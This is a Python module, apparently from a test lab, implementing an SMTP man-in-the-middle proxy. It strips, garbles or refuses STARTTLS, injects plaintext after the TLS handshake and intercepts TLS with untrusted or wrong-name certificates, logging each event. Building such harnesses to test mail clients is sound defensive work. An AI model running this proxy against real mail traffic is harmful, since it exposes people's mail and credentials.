"""The on-path attacker: a TCP proxy in front of a real MX that tampers with the SMTP session.

The lab DNS points the MX name at the proxy; the proxy connects on to the real MX.

    attacker = Attacker((mx.host, mx.port), "strip", mx_name="mx.example.org", ca=lab_ca)
    async with attacker.running():
        ...  # deliver to attacker.host:attacker.port
    attacker.events  # ["stripped STARTTLS", ...]

The plaintext dialogue is relayed command by command (the client's lines, the MX's replies, a
multi-line reply read up to its last line), so the proxy can rewrite or answer what it sees. Once a
real STARTTLS is answered 220 it only copies bytes both ways: it cannot read TLS. The intercept
modes terminate TLS themselves and relay the decrypted dialogue.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import tempfile
from collections.abc import AsyncIterator
from enum import StrEnum
from pathlib import Path

import structlog

from lab.pki import LabCA

log = structlog.get_logger("lab.attacker")

INJECTED = b"250-injected\r\n"
ATTACKER_NAME = "attacker.invalid"  # the wrong name intercept-wrong-name presents; its EHLO name
_LIMIT = 1 << 20  # longest line read; body lines of a message are relayed one by one
_TIMEOUT = 30.0  # seconds to wait for the MX's reply


class AttackMode(StrEnum):
    """What the proxy does to the session."""

    NONE = "none"  # pass-through
    STRIP = "strip"  # remove STARTTLS from the EHLO reply
    GARBLE = "garble"  # STARTTLS -> XXXXXXXA in the EHLO reply (Cisco ASA)
    STARTTLS_454 = "starttls-454"  # answer STARTTLS 454 itself
    STARTTLS_501 = "starttls-501"  # answer STARTTLS 501 itself
    STARTTLS_BAD_CODE = "starttls-bad-code"  # answer STARTTLS 250 itself
    INJECT = "inject"  # plaintext after the MX's 220, in the same segment
    EHLO_502 = "ehlo-502"  # answer EHLO 502 itself: the client falls back to HELO
    INTERCEPT = "intercept"  # own TLS with a certificate from an untrusted CA
    INTERCEPT_WRONG_NAME = "intercept-wrong-name"  # own TLS, trusted CA, wrong name


# The proxy's own answer to STARTTLS in the modes that refuse it.
STARTTLS_ANSWERS: dict[AttackMode, bytes] = {
    AttackMode.STARTTLS_454: b"454 4.7.0 TLS not available due to temporary reason\r\n",
    AttackMode.STARTTLS_501: b"501 5.5.4 Syntax error\r\n",
    AttackMode.STARTTLS_BAD_CODE: b"250 2.0.0 Ok\r\n",
}
EHLO_502 = b"502 5.5.2 Error: command not recognized\r\n"
READY = b"220 2.0.0 Ready to start TLS\r\n"


def strip_starttls(reply: list[bytes]) -> list[bytes]:
    """The EHLO reply without its STARTTLS line, the marks fixed: ``250-`` ... ``250 ``."""
    kept = [line for line in reply if line[4:].strip().upper() != b"STARTTLS"]
    if len(kept) == len(reply) or not kept:
        return reply
    return [
        line[:3] + (b"-" if i < len(kept) - 1 else b" ") + line[4:] for i, line in enumerate(kept)
    ]


def garble_starttls(reply: list[bytes]) -> list[bytes]:
    """The EHLO reply with STARTTLS overwritten by ``XXXXXXXA``, byte for byte."""
    return [line.replace(b"STARTTLS", b"XXXXXXXA") for line in reply]


async def read_reply(reader: asyncio.StreamReader) -> list[bytes]:
    """One SMTP reply: its lines up to the one whose fourth byte is not ``-``. Empty at EOF."""
    lines: list[bytes] = []
    while True:
        line = await asyncio.wait_for(reader.readline(), _TIMEOUT)
        if not line:
            return lines
        lines.append(line)
        if line[3:4] != b"-":
            return lines


def _verb(line: bytes) -> str:
    return line.split(maxsplit=1)[0].decode("ascii", "replace").upper() if line.strip() else ""


async def _pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Copy bytes until EOF, then close the writer."""
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except (ConnectionError, ssl.SSLError, OSError):
        pass
    finally:
        writer.close()


class Attacker:
    """The MITM proxy: listens on `host`:`port`, forwards to `upstream`, attacks as `mode` says.

    `mode` may be changed between sessions (a str is accepted too). `mx_name` is the name the
    intercepting certificate is issued for and the name checked on the real MX's certificate;
    `ca` is the lab CA (the real MX's issuer; intercept signs with `ca.untrusted()`).
    """

    def __init__(
        self,
        upstream: tuple[str, int],
        mode: AttackMode | str,
        *,
        host: str = "127.0.0.2",
        port: int = 0,
        mx_name: str = "",
        ca: LabCA | None = None,
    ) -> None:
        self.upstream = upstream
        self.mode = AttackMode(mode)
        self.host = host
        self.port = port
        self.mx_name = mx_name
        self.ca = ca
        self.events: list[str] = []
        self.sessions = 0
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()
        self._writers: set[asyncio.StreamWriter] = set()
        self._intercept_contexts: dict[AttackMode, ssl.SSLContext] = {}

    def _event(self, event: str) -> None:
        self.events.append(event)
        log.info("attacker", what=event, mode=str(self.mode), session=self.sessions)

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._session, self.host, self.port, limit=_LIMIT)
        self.port = int(self._server.sockets[0].getsockname()[1])

    async def stop(self) -> None:
        if self._server is None:
            return
        self._server.close()
        for writer in list(self._writers):
            writer.transport.abort()  # open sessions see EOF and end on their own
        if self._tasks:
            _, pending = await asyncio.wait(list(self._tasks), timeout=2)
            for task in pending:
                task.cancel()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(2):
                await self._server.wait_closed()
        self._server = None

    @contextlib.asynccontextmanager
    async def running(self) -> AsyncIterator[Attacker]:
        await self.start()
        try:
            yield self
        finally:
            await self.stop()

    # --- one session --------------------------------------------------------------------------

    async def _session(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        self._writers.add(writer)
        self.sessions += 1
        mode = AttackMode(self.mode)
        up_writer: asyncio.StreamWriter | None = None
        try:
            try:
                up_reader, up = await asyncio.wait_for(
                    asyncio.open_connection(*self.upstream, limit=_LIMIT), _TIMEOUT
                )
            except (OSError, TimeoutError) as exc:
                self._event(f"upstream unreachable: {exc}")
                return
            up_writer = up
            self._writers.add(up)
            await self._dialogue(mode, reader, writer, up_reader, up)
        except (ConnectionError, ssl.SSLError, OSError, TimeoutError, asyncio.IncompleteReadError):
            pass
        finally:
            for w in (writer, up_writer):
                if w is not None:
                    w.close()
                    self._writers.discard(w)
            self._tasks.discard(task)

    async def _dialogue(
        self,
        mode: AttackMode,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        up_reader: asyncio.StreamReader,
        up_writer: asyncio.StreamWriter,
    ) -> None:
        """The plaintext phase, command by command, until QUIT, EOF or a STARTTLS upgrade."""
        banner = await read_reply(up_reader)
        if not banner:
            return
        await _send(writer, b"".join(banner))
        while line := await reader.readline():
            verb = _verb(line)
            if verb == "EHLO" and mode is AttackMode.EHLO_502:
                self._event("answered EHLO 502")
                await _send(writer, EHLO_502)
                continue
            if verb == "STARTTLS" and mode in STARTTLS_ANSWERS:
                answer = STARTTLS_ANSWERS[mode]
                self._event(f"answered STARTTLS {answer[:3].decode()}")
                await _send(writer, answer)
                continue
            if verb == "STARTTLS" and mode in (
                AttackMode.INTERCEPT,
                AttackMode.INTERCEPT_WRONG_NAME,
            ):
                await self._intercept(mode, reader, writer, up_reader, up_writer)
                return
            if verb == "HELO":
                self._event("forwarded HELO")
            await _send(up_writer, line)
            reply = await read_reply(up_reader)
            if not reply:
                return
            if verb == "EHLO" and mode is AttackMode.STRIP:
                stripped = strip_starttls(reply)
                if stripped != reply:
                    self._event("stripped STARTTLS")
                reply = stripped
            elif verb == "EHLO" and mode is AttackMode.GARBLE:
                garbled = garble_starttls(reply)
                if garbled != reply:
                    self._event("garbled STARTTLS")
                reply = garbled
            data = b"".join(reply)
            if verb == "STARTTLS" and reply[-1].startswith(b"220"):
                if mode is AttackMode.INJECT:
                    self._event("injected plaintext after 220")
                    data += INJECTED
                else:
                    self._event("relayed STARTTLS")
                await _send(writer, data)
                await self._relay(reader, writer, up_reader, up_writer)
                return
            await _send(writer, data)
            if verb == "DATA" and reply[-1].startswith(b"354"):
                await self._body(reader, up_writer)
                await _send(writer, b"".join(await read_reply(up_reader)))
            elif verb == "QUIT":
                return

    async def _body(self, reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter) -> None:
        """Relay a message's lines up to and including the lone ``.``."""
        while line := await reader.readline():
            up_writer.write(line)
            if line in (b".\r\n", b".\n"):
                break
        await up_writer.drain()

    async def _relay(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        up_reader: asyncio.StreamReader,
        up_writer: asyncio.StreamWriter,
    ) -> None:
        """Copy bytes both ways until both sides are done."""
        await asyncio.gather(_pipe(reader, up_writer), _pipe(up_reader, writer))

    def _intercept_context(self, mode: AttackMode) -> ssl.SSLContext:
        """The server context for the client side: untrusted CA, or trusted CA and a wrong name."""
        if mode not in self._intercept_contexts:
            if self.ca is None:
                self.ca = LabCA(Path(tempfile.mkdtemp(prefix="attacker-ca-")))
            name = self.mx_name or ATTACKER_NAME
            if mode is AttackMode.INTERCEPT:
                issued = self.ca.untrusted().issue(name)
            else:
                issued = self.ca.issue(ATTACKER_NAME)
            self._intercept_contexts[mode] = issued.server_context()
        return self._intercept_contexts[mode]

    def _upstream_context(self) -> ssl.SSLContext:
        """Towards the real MX: trust the lab CA (or nothing, without one) and check `mx_name`."""
        if self.ca is not None and self.mx_name:
            return self.ca.client_context()
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        return ctx

    async def _intercept(
        self,
        mode: AttackMode,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        up_reader: asyncio.StreamReader,
        up_writer: asyncio.StreamWriter,
    ) -> None:
        """Answer STARTTLS, terminate the client's TLS, open our own to the MX, relay between."""
        context = self._intercept_context(mode)
        await _send(writer, READY)
        try:
            await _start_tls(writer, context)
        except (ssl.SSLError, ConnectionError, OSError) as exc:
            self._event(f"client refused intercepted TLS: {exc}")
            return
        self._event("intercepted TLS")
        await _send(up_writer, f"EHLO {ATTACKER_NAME}\r\n".encode())
        await read_reply(up_reader)
        await _send(up_writer, b"STARTTLS\r\n")
        reply = await read_reply(up_reader)
        if reply and reply[-1].startswith(b"220"):
            await _start_tls(up_writer, self._upstream_context(), self.mx_name or None)
            self._event("TLS to the MX")
        else:
            self._event("MX refused STARTTLS: relaying in plaintext")
        await self._relay(reader, writer, up_reader, up_writer)


async def _start_tls(
    writer: asyncio.StreamWriter, context: ssl.SSLContext, server_hostname: str | None = None
) -> None:
    """`StreamWriter.start_tls`, but a connection lost during the handshake is a
    ConnectionResetError. (Python 3.11: the loop then hands back no transport, and the writer,
    left without one, fails in `close()` and `__del__` with AttributeError.)"""
    before = writer.transport
    try:
        await writer.start_tls(context, server_hostname=server_hostname)
    except AttributeError:
        vars(writer)["_transport"] = before  # so close() still works
        raise ConnectionResetError("connection lost during the TLS handshake") from None


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()
